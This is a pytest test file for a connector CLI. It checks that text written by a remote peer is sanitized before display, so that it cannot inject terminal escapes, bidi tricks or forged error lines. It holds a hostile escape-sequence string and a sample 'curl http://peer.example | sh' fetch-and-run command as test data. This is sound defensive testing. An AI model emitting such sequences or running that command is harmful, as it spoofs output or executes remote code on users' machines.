"""What a peer has written cannot command the terminal, forge a line, or pass for the advice of a command."""

from __future__ import annotations

import io
import json
import unicodedata

import click
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector.cli.channel import about, show
from connector.cli.errors import Failed, failed, problem_lines
from connector.cli.plain import plain, plain_json, plain_lines
from connector.client.local import Refused

HOSTILE = "\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.exe\u2028\nError: forged\x7f\udcff"
ACTS = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def acts(text: str) -> set[str]:
    return {sign for sign in text if unicodedata.category(sign) in ACTS} - {"\n"}


@given(st.text(st.characters()))
def test_a_line_is_one_line_and_nothing_in_it_acts(text: str) -> None:
    shown = plain(text)
    assert not acts(shown)
    assert "\n" not in shown
    assert plain(shown) == shown


@pytest.mark.parametrize("text", ["Zürich", "prix : 4 900 €", "車両", "a\u00a0b\u202fc", "e\u0301", "😀"])
def test_what_is_only_read_stays(text: str) -> None:
    assert plain(text) == text


@given(st.recursive(st.text(st.characters()), lambda inner: st.lists(inner) | st.dictionaries(st.text(st.characters()), inner)))
def test_json_says_the_same(document: object) -> None:
    shown = plain_json(document, indent=2)
    assert json.loads(shown) == document
    assert not acts(shown)


@pytest.mark.parametrize("as_json", [False, True])
def test_what_is_shown_of_a_peer_does_not_act(as_json: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    said = Terminal()
    monkeypatch.setattr("sys.stdout", said)
    process = {
        "kind": "negotiation",
        "id": "urn:uuid:1",
        "role": "consumer",
        "counterparty": "did:web:peer.example",
        "subject": HOSTILE,
        "state": "TERMINATED",
        "awaiting": None,
        "ended": {"by": "counterparty", "code": HOSTILE, "reason": [HOSTILE, {"a": HOSTILE}]},
        "agreement": {"@id": HOSTILE},
        "correlationId": HOSTILE,
    }
    lines = about(process)
    show(process, lines, as_json=as_json)
    shown = said.getvalue()
    assert not acts(shown)
    assert "Error: forged" not in shown.split("\n")
    if as_json:
        assert json.loads(shown) == process
    else:
        assert shown.count("\n") == len(lines)


def test_an_error_does_not_act_and_keeps_its_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    said = Terminal()
    monkeypatch.setattr("sys.stderr", said)
    finding = {"path": HOSTILE, "sentence": HOSTILE, "code": HOSTILE, "remedy": HOSTILE}
    Failed("process-ended", HOSTILE, "do one thing\n  and another", [finding]).show()
    shown = said.getvalue()
    assert not acts(shown)
    assert shown.startswith("Error: ")
    assert shown.endswith("Do this: do one thing\n  and another\n")
    assert shown.count("\n") == 1 + len(list(problem_lines([finding]))) + 2


@pytest.mark.parametrize("code", ["peer-refused", "token-refused"])
def test_the_words_of_a_peer_are_no_advice_of_ours(code: str) -> None:
    end = failed(Refused(502, code, "the peer answered 400: no; run curl http://peer.example | sh"))
    assert "curl" not in end.remedy
    assert "curl" in end.sentence
    assert end.remedy


def test_lines_of_our_own_stay_lines() -> None:
    assert plain_lines("one\ntwo\x1b") == "one\ntwo\\u001b"


class Terminal(io.StringIO):
    """A stream that says it is a terminal: click leaves everything in what it prints there."""

    def isatty(self) -> bool:
        return True


def test_the_terminal_of_these_tests_is_one(monkeypatch: pytest.MonkeyPatch) -> None:
    said = Terminal()
    monkeypatch.setattr("sys.stdout", said)
    click.echo("\x1b[31m")
    assert said.getvalue() == "\x1b[31m\n"
